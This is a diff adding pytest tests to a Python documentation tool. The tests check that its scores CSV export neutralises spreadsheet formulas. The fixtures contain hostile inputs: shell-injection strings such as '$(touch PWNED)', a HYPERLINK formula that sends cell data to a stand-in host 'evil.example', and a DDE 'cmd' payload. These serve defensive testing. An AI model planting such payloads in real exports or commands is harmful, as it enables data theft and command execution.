@@ -3,6 +3,9 @@ its interruption, and the CSV export. Every value is data, never code."""
 
 from __future__ import annotations
 
+import csv
+import io
+import json
 import os
 import re
 import shlex
@@ -17,8 +20,9 @@ import pytest
 from bs4 import BeautifulSoup
 from markdown_it import MarkdownIt
 
-from conftest import PROJECT
+from conftest import PROJECT, warnings_of
 from kompass.diff import compare
+from kompass.export import csv_cell
 
 MAKE = shutil.which('make') or 'make'
 PAYLOADS = ['x"; touch PWNED; "', "x'; touch PWNED; '", '`touch PWNED`', '$(touch PWNED)',
@@ -301,3 +305,47 @@ def test_interrupted_make_diff_leaves_no_worktree_and_no_folder(
     assert worktrees.count('worktree ') == 1
     assert not (copy / '.git/worktrees').exists() or not any(
         (copy / '.git/worktrees').iterdir())
+
+
+# --- make scores: the CSV ---------------------------------------------------
+
+
+@pytest.mark.parametrize(('value', 'cell'), [
+    ('=1+2', "'=1+2"), ('+SUM(1)', "'+SUM(1)"), ('-2+3', "'-2+3"), ('@A1', "'@A1"),
+    ('\t=1', "'\t=1"), ('\r=1', "'\r=1"), ('-', "'-"),
+    ('-5', '-5'), ('+3', '+3'), ('-1.5', '-1.5'), ('-2e3', '-2e3'),
+    (-4, -4), (0, 0), (None, ''), ('Lund', 'Lund'), ('a=b', 'a=b'),
+])
+def test_csv_cell_neutralises_formulas_and_keeps_numbers(value: object, cell: object) -> None:
+    assert csv_cell(value) == cell
+
+
+@pytest.mark.sphinx('scores', testroot='export', freshenv=True)
+def test_score_csv_carries_no_formula(app) -> None:  # type: ignore[no-untyped-def]
+    app.build(force_all=True)
+    assert warnings_of(app) == []
+    rows = list(csv.reader(io.StringIO(
+        (app.outdir / 'scores.csv').read_text(encoding='utf8'))))
+    head, body = rows[0], rows[1:]
+    by_slug = {row[0]: dict(zip(head, row, strict=True)) for row in body}
+    assert {slug: row['municipality'] for slug, row in by_slug.items()} == {
+        'eq-2020': '\'=HYPERLINK("http://evil.example/?"&A1;"Klicka")',
+        'plus-2021': "'+SUM(1;2)",
+        'minus-2021': "'-2+3",
+        'at-2021': "'@SUM(A1:A2)",
+        'number-2021': '-5',
+    }
+    for row in body:
+        for cell in row:
+            assert not cell.startswith(('=', '+', '@', '\t', '\r')), cell
+            assert not cell.startswith('-') or re.fullmatch(r'-\d+', cell), cell
+    # The numbers stay numbers.
+    eq = by_slug['eq-2020']
+    assert [eq[c] for c in ('1.1', '1.2', '2.1', '2.2', '1', '2', 'total')] == [
+        '10', '20', '30', '40', '30', '70', '100']
+    # The JSON keeps what was written, unchanged.
+    data = json.loads((app.outdir / 'scores.json').read_text(encoding='utf8'))
+    sources = {e['slug']: (e['municipality'], e['source']) for e in data['evaluations']}
+    assert sources['eq-2020'] == ('=HYPERLINK("http://evil.example/?"&A1;"Klicka")',
+                                  "=cmd|' /C calc'!A0")
+    assert sources['number-2021'] == ('-5', '-1.5')
